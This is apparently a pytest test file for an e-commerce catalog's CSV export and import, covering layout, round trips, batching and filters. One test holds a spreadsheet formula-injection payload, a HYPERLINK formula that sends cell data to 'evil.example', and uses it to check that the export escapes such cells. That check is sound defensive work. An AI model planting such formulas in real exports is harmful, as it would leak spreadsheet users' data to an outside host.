"""Exporting the catalog as CSV: streamed in batches, filtered like the list, and read back by
the import unchanged (into the same database, or after the products are gone)."""

from __future__ import annotations

import csv
import io

import pytest
from flask import url_for
from PIL import Image
from sqlalchemy import select

from commerce.catalog.csv_export import export_catalog_csv
from commerce.catalog.csv_format import COLUMNS
from commerce.catalog.csv_import import apply_import
from commerce.catalog.media import add_external_image, add_image
from commerce.catalog.models import Category, Collection, Product
from commerce.catalog.queries import ProductFilter
from commerce.catalog.services import delete_product, update_product, update_variant
from commerce.catalog.taxonomy import create_collection
from commerce.extensions import db


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (32, 24), (200, 40, 40)).save(buffer, format="PNG")
    return buffer.getvalue()


def export_text(app, flt: ProductFilter | None = None, **kw) -> str:
    with app.test_request_context("/console/products/export"):
        return "".join(
            export_catalog_csv(
                flt or ProductFilter(),
                media_url=lambda m: url_for("storefront.media_file", path=m.path, _external=True),
                **kw,
            )
        )


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.fixture
def catalog(make_product, make_category):
    apparel = make_category("Apparel")
    shirts = make_category("Shirts", parent=make_category("Men", parent=apparel))
    summer = create_collection(title="Summer", handle="summer", by=None)
    featured = create_collection(title="Featured", handle="featured", by=None)
    create_collection(
        title="Linen",
        handle="linen",
        kind="rule",
        rules=[{"field": "tag", "op": "equals", "value": "linen"}],
        by=None,
    )
    shirt = make_product(
        "Linen Shirt",
        handle="linen-shirt",
        status="active",
        vendor="Acme, Inc.",
        product_type="Shirt",
        tags="linen, summer",
        category_id=shirts.id,
        description='Cool, crisp "linen".\n\n* breathable\n* washable, too',
        seo_title="Linen shirt",
        seo_description="A shirt, in linen.",
        sku="LS-1",
        price=4900,
        compare_at_price=5900,
        weight_grams=210,
        options=[("Size", ["S", "M"]), ("Colour", ["White", "Sand"])],
    )
    update_product(shirt, collection_ids=[summer.id, featured.id], by=None)
    update_variant(shirt.variants[1], sku="LS-2", inventory_policy="continue", by=None)
    add_image(shirt, data=png_bytes(), filename="front.png", alt="Front, close-up", by=None)
    add_external_image(shirt, url="https://cdn.example.com/back.jpg?v=2", alt="Back", by=None)
    add_external_image(shirt, url="https://cdn.example.com/side.jpg", by=None)
    make_product(
        "Stoneware Mug",
        handle="stoneware-mug",
        status="archived",
        description='<p>Holds 350 ml, "stackable", dishwasher safe.</p>',
        description_format="html",
        barcode="4006381333931",
        sku="MUG-1",
        price=1450,
    )
    tote = make_product("Canvas Tote", handle="canvas-tote", sku=None, price=1200)
    add_external_image(tote, url="https://cdn.example.com/tote.jpg", alt="Tote", by=None)
    return shirt


def test_rows_follow_the_documented_layout(app, catalog):
    text = export_text(app)
    assert text.startswith("\ufeff" + ",".join(COLUMNS) + "\r\n")
    rows = rows_of(text)
    shirt = [r for r in rows if r["handle"] == "linen-shirt"]
    assert len(shirt) == 4  # four variants; the three images ride on the first three rows
    first = shirt[0]
    assert (first["title"], first["status"], first["category"]) == (
        "Linen Shirt",
        "active",
        "Apparel / Men / Shirts",
    )
    assert first["collections"] == "featured;summer" and first["tags"] == "linen, summer"
    assert (first["option1_name"], first["option2_name"]) == ("Size", "Colour")
    assert (first["price"], first["compare_at_price"], first["weight_grams"]) == (
        "49.00",
        "59.00",
        "210",
    )
    assert first["image_src"].startswith("http://localhost/media/products/")
    assert (first["image_alt"], first["image_position"]) == ("Front, close-up", "1")
    assert [r["title"] for r in shirt[1:]] == ["", "", ""]
    assert [(r["option1_value"], r["option2_value"]) for r in shirt] == [
        ("S", "White"),
        ("S", "Sand"),
        ("M", "White"),
        ("M", "Sand"),
    ]
    assert shirt[1]["inventory_policy"] == "continue" and shirt[1]["sku"] == "LS-2"
    assert [r["image_src"] for r in shirt[1:]] == [
        "https://cdn.example.com/back.jpg?v=2",
        "https://cdn.example.com/side.jpg",
        "",
    ]
    mug = next(r for r in rows if r["handle"] == "stoneware-mug")
    assert mug["description_format"] == "html" and mug["option1_name"] == ""


def test_round_trip_into_the_same_database_changes_nothing(app, catalog, tmp_path):
    first = export_text(app)
    path = tmp_path / "export.csv"
    path.write_text(first, encoding="utf-8")
    report = apply_import(path, by=None)
    assert report.ok, report.errors
    assert (report.products_created, report.products_updated, report.products_unchanged) == (
        0,
        0,
        3,
    )
    assert export_text(app) == first


def test_round_trip_into_an_empty_catalog_is_byte_identical(app, catalog, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "IMPORT_FETCH_IMAGES", False)
    first = export_text(app)
    path = tmp_path / "export.csv"
    path.write_bytes(first.encode("utf-8"))
    for product in db.session.scalars(select(Product)).all():
        delete_product(product, by=None)
    assert export_text(app) == "\ufeff" + ",".join(COLUMNS) + "\r\n"
    report = apply_import(path, by=None)
    assert report.ok, report.errors
    assert (report.products_created, report.variants_created, report.images_added) == (3, 6, 4)
    assert export_text(app) == first


def test_export_streams_in_batches_and_follows_the_filter(app, make_product):
    for n in range(5):
        make_product(f"Item {n}", handle=f"item-{n}", status="active" if n % 2 else "draft")
    with app.test_request_context("/"):
        chunks = list(export_catalog_csv(ProductFilter(), media_url=str, batch_size=2))
    assert len(chunks) == 1 + 3  # the header, then three batches of at most two products
    assert [r["handle"] for r in rows_of("".join(chunks))] == [f"item-{n}" for n in range(5)]
    active = rows_of(export_text(app, ProductFilter(status="active")))
    assert [r["handle"] for r in active] == ["item-1", "item-3"]
    found = rows_of(export_text(app, ProductFilter(q="item-4")))
    assert [r["handle"] for r in found] == ["item-4"]


def test_export_queries_do_not_grow_with_products(app, make_product, query_counter):
    def make(n: int) -> None:
        for _ in range(n):
            product = make_product(tags="a, b", options=[("Size", ["S", "M"])])
            add_external_image(product, url="https://cdn.example.com/x.jpg", by=None)

    make(3)
    with query_counter() as few:
        export_text(app)
    make(12)
    with query_counter() as many:
        export_text(app)
    assert len(many) == len(few)


def test_export_follows_collection_and_category_filters(app, catalog):
    summer = db.session.scalar(select(Collection).where(Collection.handle == "summer"))
    rows = rows_of(export_text(app, ProductFilter(collection_id=summer.id)))
    assert {r["handle"] for r in rows} == {"linen-shirt"}
    men = db.session.scalar(select(Category).where(Category.name == "Men"))
    rows = rows_of(export_text(app, ProductFilter(category_id=men.id)))
    assert {r["handle"] for r in rows} == {"linen-shirt"}


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_cells_a_spreadsheet_would_run_are_quoted_and_read_back_exactly(
    app, make_product, tmp_path, monkeypatch
):
    """The probe's product title runs as a formula in a spreadsheet unless it starts with a
    quote; our import takes the quote off again, so the round trip stays byte-identical."""
    monkeypatch.setitem(app.config, "IMPORT_FETCH_IMAGES", False)
    make_product(FORMULA, handle="evil", sku="EVIL-1", vendor="-5 Degrees", price=1000)
    make_product("'=already quoted", handle="quoted", sku="Q-1", price=1000)
    first = export_text(app)
    by_handle = {r["handle"]: r for r in rows_of(first)}
    assert by_handle["evil"]["title"] == "'" + FORMULA
    assert by_handle["evil"]["vendor"] == "'-5 Degrees"
    assert by_handle["quoted"]["title"] == "''=already quoted"
    path = tmp_path / "export.csv"
    path.write_bytes(first.encode("utf-8"))
    for product in db.session.scalars(select(Product)).all():
        delete_product(product, by=None)
    report = apply_import(path, by=None)
    assert report.ok, report.errors
    titles = set(db.session.scalars(select(Product.title)))
    assert titles == {FORMULA, "'=already quoted"}
    assert export_text(app) == first


def test_a_negative_quantity_written_with_a_quote_reads_as_the_number():
    """An oversold item's quantity -5 (a negative opening adjustment) is `'-5` once a file went
    through our escaping; the import reads the same number either way."""
    from commerce.catalog.csv_format import read_catalog_csv

    header = "Handle,Title,Variant SKU,Variant Price,Variant Inventory Qty\r\n"
    plain = read_catalog_csv(io.StringIO(header + "tee,Tee,T-1,10.00,-5\r\n"), currency="USD")
    quoted = read_catalog_csv(io.StringIO(header + "tee,Tee,T-1,10.00,'-5\r\n"), currency="USD")
    assert plain.errors == quoted.errors == []
    assert plain.products[0].variants[0].inventory_qty == -5
    assert quoted.products[0].variants[0].inventory_qty == -5
